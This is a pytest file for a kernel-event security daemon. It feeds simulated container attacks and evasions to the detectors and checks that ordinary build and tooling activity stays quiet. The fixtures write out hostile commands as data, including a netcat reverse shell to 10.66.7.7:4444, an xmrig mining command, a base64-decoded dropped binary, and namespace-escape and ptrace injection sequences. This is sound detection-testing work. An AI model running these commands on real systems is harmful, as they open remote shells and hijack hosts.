"""The corpus's cases as the kernel reports them, through all detectors together.

An attack must be found in its category and at least at its floor, in plain Docker and in a tight sandbox;
an ordinary program must not be found at all, or as a trace (low). That the kernel does report them so is
what the corpus itself is run for.
"""

from __future__ import annotations

import errno
from dataclasses import replace

import pytest

from daemon.events import Drift, Event, File, FileKind
from daemon.findings import Severity
from tests.detectors.attacks import Attack, everything, is_found, pair
from tests.detectors.making import (
    EACCES,
    EAGAIN,
    EINPROGRESS,
    ENETUNREACH,
    ENOENT,
    ENOSYS,
    EPERM,
    PLAIN,
    PRIVILEGED,
    SHM_DEVICE,
    STRICT,
    called,
    chmodded,
    connected,
    device_opened,
    executed,
    exited,
    forked,
    fresh,
    limit,
    linked,
    listened,
    mapped,
    namespaces,
    on,
    opened,
    touched,
    unix_connected,
)

UNCONFINED = replace(PLAIN, seccomp=False)
EXECUTABLE_SHM = replace(PLAIN, mounts=(PLAIN.mounts[0], replace(PLAIN.mounts[1], executable=True)))
MEMFD = File(path="/memfd:", device=1, inode=9, filesystem="tmpfs", links=0)
NEWUSER, NEWNS, NEWALL = 0x1000_0000, 0x2_0000, 0x6C02_0000
ATTACH, POKEDATA, TRACEME = 16, 5, 0


DROPPED = fresh("/tmp/.x11/dbus")
XMRIG = (
    "/tmp/xmrig",
    "-o",
    "stratum+tcp://10.66.3.3:3333",
    "-u",
    "4corpus",
    "-p",
    "x",
    "--donate-level",
    "1",
)

ATTACKS = [
    *pair(
        "proc-bpf-load",
        "high",
        (called("bpf", 0, 1, 144, result=3), called("bpf", 5, 1, 144, result=4)),
        (called("bpf", 0, 1, 144, result=EPERM),),
        sandbox=PRIVILEGED,
    ),
    *pair(
        "proc-drop-exec",
        "low",
        (
            opened("/tmp/.x11/dbus", file=DROPPED, write=True, pid=7),
            executed("base64", "-d", "/tmp/.x11/b", path="/bin/busybox", pid=7),
            executed("/tmp/.x11/dbus", file=DROPPED, fresh=True, pid=8),
        ),
        (called("execve", 1, 2, 3, result=EACCES),),
    ),
    *pair(
        "proc-exec-devshm",
        "medium",
        (executed("/dev/shm/id", file=fresh("/dev/shm/id", device=SHM_DEVICE), fresh=True),),
        (chmodded("/dev/shm/id", 0o755), called("execve", 1, 2, 3, result=EACCES)),
        sandbox=EXECUTABLE_SHM,
    ),
    *pair(
        "proc-keyctl",
        "medium",
        (called("add_key", 1, 2, 3, result=7), called("keyctl", 6, 4, result=32)),
        (called("add_key", 1, 2, 3, result=EPERM), called("request_key", result=EPERM)),
        sandbox=UNCONFINED,
    ),
    *pair(
        "proc-kmod-load",
        "critical",
        (called("init_module", 1, 64, 2, result=ENOSYS), called("finit_module", 3, 1, 0, result=ENOSYS)),
        (called("init_module", 1, 64, 2, result=EPERM),),
        sandbox=PRIVILEGED,
    ),
    *pair(
        "proc-ldpreload",
        "medium",
        (executed("id", "-u", path="/usr/bin/id", preloads=("LD_PRELOAD=/tmp/.lib.so",)),),
        (executed("id", "-u", path="/usr/bin/id", preloads=("LD_PRELOAD=/tmp/.lib.so",)),),
    ),
    *pair(
        "proc-memfd-exec",
        "high",
        (executed("python3", "x", file=MEMFD, fresh=True),),
        (executed("python3", "x", file=MEMFD, fresh=True),),
    ),
    *pair(
        "proc-nsenter-pid1",
        "critical",
        (
            namespaces("setns", NEWNS),
            executed("cat", path="/bin/cat", drift=Drift.MOUNT_NAMESPACE | Drift.ROOT),
        ),
        (opened("/proc/1/ns/mnt", result=EACCES),),
        sandbox=PRIVILEGED,
    ),
    Attack(
        "proc-nsenter-pid1 refused",
        "process",
        "critical",
        (namespaces("setns", NEWNS, result=EPERM),),
        STRICT,
    ),
    *pair(
        "proc-pkg-manager",
        "low",
        (
            executed("apt-get", "-o", "Acquire::Retries=0", "install", "-y", "nmap", path="/usr/bin/apt-get"),
            executed("dpkg", "-i", "/tmp/p.deb", path="/usr/bin/dpkg"),
        ),
        (executed("apt-get", "install", path="/usr/bin/apt-get"),),
    ),
    *pair(
        "proc-ptrace-inject",
        "medium",
        (touched("ptrace", 17, request=ATTACH), touched("ptrace", 17, request=POKEDATA)),
        (touched("ptrace", 17, request=ATTACH, result=EPERM),),
    ),
    *pair(
        "proc-recon-sh",
        "low",
        tuple(
            map(
                opened,
                ("/proc/1/cgroup", "/proc/9/mountinfo", "/proc/1/status", "/proc/9/uid_map", "/proc/version"),
            )
        ),
        tuple(
            map(
                opened,
                ("/proc/1/cgroup", "/proc/9/mountinfo", "/proc/9/mounts", "/proc/9/uid_map", "/proc/cmdline"),
            )
        ),
    ),
    *pair(
        "proc-revshell-nc",
        "high",
        (
            connected("10.66.7.7", 4444),
            executed("/bin/sh", path="/bin/busybox", inet_stdio=frozenset({0, 1, 2})),
        ),
        (executed("nc", "-w", "3", "10.66.7.7", "4444", "-e", "/bin/sh", path="/bin/busybox"),),
    ),
    *pair(
        "proc-unshare-userns",
        "high",
        (namespaces("unshare", NEWUSER | NEWNS),),
        (namespaces("unshare", NEWUSER | NEWNS, result=EPERM),),
        sandbox=UNCONFINED,
    ),
    *pair(
        "proc-userfaultfd",
        "medium",
        (called("userfaultfd", 0x80800, result=3),),
        (called("userfaultfd", 0x80801, result=EPERM),),
        sandbox=UNCONFINED,
    ),
    *pair(
        "proc-vm-writev",
        "medium",
        (touched("process_vm_writev", 17, result=8, descendant=True),),
        (touched("process_vm_writev", 17, result=EPERM, descendant=True),),
    ),
    *pair(
        "res-disk-fill",
        "low",
        (called("write", 1, 2, 1 << 20, result=-errno.ENOSPC),),
        (limit("workspace"),),
        category="resource",
    ),
    *pair(
        "res-forkbomb",
        "high",
        (*(forked(pid) for pid in range(1000, 1062)), namespaces("clone", 0, result=EAGAIN)),
        (limit("pids"),),
        category="resource",
    ),
    *pair("res-memory-bomb", "medium", (limit("memory"),), (limit("memory"),), category="resource"),
    *pair(
        "res-miner-cpu",
        "high",
        (executed(*XMRIG, file=fresh("/tmp/xmrig"), fresh=True), connected("10.66.3.3", 3333)),
        (connected("10.66.3.3", 3333, result=-errno.ENETUNREACH),),
        category="resource",
    ),
]

EVASIONS = [
    Attack("bpf by int 0x80", "process", "high", (called("bpf", 5, compat=True),)),
    Attack("bpf from a thread", "process", "high", (called("bpf", 5, tid=4242, comm="worker"),)),
    Attack(
        "bpf from a renamed program",
        "process",
        "high",
        (called("bpf", 5, comm="nginx", exe="/usr/sbin/nginx"),),
    ),
    Attack("clone3 for unshare", "process", "high", (namespaces("clone3", NEWUSER | NEWALL),)),
    Attack(
        "setns from a double fork",
        "process",
        "critical",
        (forked(7, ppid=6), forked(8, ppid=7), exited(7), namespaces("setns", 0, pid=8, ppid=1)),
    ),
    Attack(
        "a handle by another way",
        "process",
        "critical",
        (opened("/proc/self/root/proc/1/ns/pid", result=EACCES),),
    ),
    Attack(
        "shared memory through a symbolic link",
        "process",
        "medium",
        (executed("/tmp/link", file=fresh("/dev/shm/id", device=SHM_DEVICE), fresh=True),),
    ),
    Attack("a memfd by execveat", "process", "high", (executed("", file=MEMFD, fresh=True),)),
    Attack(
        "a deleted program", "process", "high", (executed("sh", file=fresh("/tmp/sh", links=0), fresh=True),)
    ),
    Attack(
        "a python reverse shell",
        "process",
        "high",
        (executed("/bin/sh", "-i", path="/usr/bin/dash", inet_stdio=frozenset({0, 1, 2})),),
    ),
    Attack(
        "a fifo reverse shell",
        "process",
        "high",
        (
            opened("/tmp/f", file=File(path="/tmp/f", kind=FileKind.FIFO), write=True, pid=12, ppid=1),
            connected("10.66.7.7", 4444, pid=12, ppid=1),
        ),
    ),
    Attack(
        "a kernel exploit without a name",
        "process",
        "critical",
        (opened("/etc/hostname", drift=Drift.CAPABILITIES | Drift.UID),),
        STRICT,
    ),
    Attack("a miner without arguments", "resource", "high", (connected("198.51.100.9", 14444),)),
]


@pytest.mark.parametrize("attack", [*ATTACKS, *EVASIONS], ids=lambda attack: attack.case)
def test_an_attack_is_found_in_its_category_and_at_its_floor(attack: Attack) -> None:
    assert is_found(attack), everything(attack.events, attack.sandbox)


PROGRAM = fresh("/tmp/p")

ORDINARY: dict[str, tuple[Event, ...]] = {
    "b-archives": (executed("tar", "czf", "d.tgz", "d", path="/usr/bin/tar"), chmodded("d/1.txt", 0o644)),
    "b-gcc-run": (
        executed("gcc", "-O2", "-o", "p", "p.c", "-lm", path="/usr/bin/x86_64-linux-gnu-gcc-12"),
        opened("/tmp/p", file=PROGRAM, write=True, pid=7),
        executed("ld", "-o", "p", path="/usr/bin/x86_64-linux-gnu-ld.bfd", pid=7),
        chmodded("p", 0o755),
        executed("./p", file=PROGRAM, fresh=True),
    ),
    "b-gdb-child": (
        called("personality", 0xFFFF_FFFF),
        called("personality", 0x4_0000),
        touched("ptrace", 0, request=TRACEME, pid=8),
        touched("ptrace", 8, request=POKEDATA, descendant=True),
        on("proc", "/proc/8/task/8/mem", write=True),
        opened("/proc/8/status"),
        executed("/tmp/g", file=PROGRAM, fresh=True, pid=8),
    ),
    "b-git": (
        executed("git", "init", "-q", path="/usr/bin/git"),
        opened("/tmp/g/.git/config.lock", write=True),
        opened("/tmp/h/.gitconfig"),
        opened("/tmp/g/.git/config"),
        on("proc", "/proc/sys/vm/overcommit_memory"),
        linked("testing", "/tmp/g/.git/tM3X9ly"),
        connected("10.255.255.53", 53, result=ENETUNREACH),
        executed("/bin/sh", "-c", "git-upload-pack '/tmp/g'", path="/usr/bin/dash"),
    ),
    "b-http-local": (
        executed("python3", "-m", "http.server", "8099", path="/usr/bin/python3.11"),
        executed("curl", "-s", "http://127.0.0.1:8099/", path="/usr/bin/curl"),
        listened("127.0.0.1", 8099),
        connected("127.0.0.1", 8099),
    ),
    "b-mp-pool": (
        *(forked(pid) for pid in range(20, 24)),
        opened("/dev/shm/sem.iu9SZf", write=True),
        chmodded("/dev/shm/sem.iu9SZf", 0o600),
        linked("/dev/shm/sem.iu9SZf", "/dev/shm/sem.mp-qtp3ttnp", symbolic=False),
    ),
    "b-node-http": (
        executed("node", "s.js", path="/usr/bin/node"),
        *(mapped(None, write=True, execute=True) for _ in range(60)),
        called("socket", 1, 1, 0, result=3),
        on("cgroup", "/sys/fs/cgroup/memory/memory.limit_in_bytes"),
        listened("127.0.0.1", 8123),
        *(connected("127.0.0.1", 8123, result=EINPROGRESS) for _ in range(20)),
    ),
    "b-pandas": (executed("python3", "t.py", path="/usr/bin/python3.11"), opened("/tmp/o.csv", write=True)),
    "b-pip-venv": (
        executed("python3", "-m", "venv", "v", path="/usr/bin/python3.11"),
        executed("/tmp/v/bin/python3", "v/bin/pip", "install", path="/usr/bin/python3.11"),
        opened("/root/.netrc", result=ENOENT),
        linked("/usr/bin/python3", "/tmp/v/bin/python3"),
        linked("lib", "/tmp/v/lib64"),
        listened("::1", 0, family=10, result=-errno.EADDRNOTAVAIL),
        chmodded("/tmp/v/bin/pip", 0o755),
        mapped(fresh("/tmp/v/lib/python3.11/site-packages/x.so"), execute=True, fresh=True),
    ),
    "b-pytest": (
        executed("python3", "-c", "print(1)", path="/usr/bin/python3.11"),
        opened("/tmp/pt/a", write=True),
        linked("/tmp/pytest-of-root/pytest-0", "/tmp/pytest-of-root/pytest-current"),
    ),
    "b-shell-text": tuple(
        event
        for pid in range(1000, 1400)
        for event in (forked(pid), executed("basename", f"/a/b/{pid}", pid=pid), exited(pid))
    ),
    "b-sqlite": (
        executed("sqlite3", "a.db", path="/usr/bin/sqlite3"),
        opened("/tmp/a.db-journal", write=True),
    ),
    "b-tmux": (
        executed("tmux", "-f", "/dev/null", "new-session", "-d", path="/usr/bin/tmux"),
        executed("/usr/lib/x86_64-linux-gnu/utempter/utempter", "add", privileged_by_file=True),
        opened("/proc/33/cmdline"),
        device_opened("/dev/ptmx", FileKind.CHARACTER, 5, 2),
        device_opened("/dev/pts/0", FileKind.CHARACTER, 136, 0),
        unix_connected("/tmp/tmux-0/a"),
        unix_connected("/var/run/nscd/socket", result=ENOENT),
        opened("/root/.bashrc"),
    ),
}


@pytest.mark.parametrize("case", ORDINARY)
def test_an_ordinary_program_is_at_most_a_trace(case: str) -> None:
    found = everything(ORDINARY[case], PLAIN)
    assert [each for each in found if each[2] != Severity.LOW] == []


@pytest.mark.parametrize("case", ORDINARY)
def test_nobody_is_told_of_an_ordinary_program_in_a_sandbox_that_runs_its_own_files(case: str) -> None:
    sandbox = replace(STRICT, fresh_exec=True, no_new_privileges=False, mounts=PLAIN.mounts)
    found = everything(ORDINARY[case], sandbox)
    assert [each for each in found if each[2] != Severity.LOW] == []


@pytest.mark.parametrize(
    "event", [forked(7), exited(7), opened("/proc/1/cgroup"), executed("sh", path="/bin/busybox")]
)
def test_what_stands_beside_an_attack_is_silent(event: Event) -> None:
    """So that the tables above are about what tells."""
    assert everything((event,), PLAIN) == []
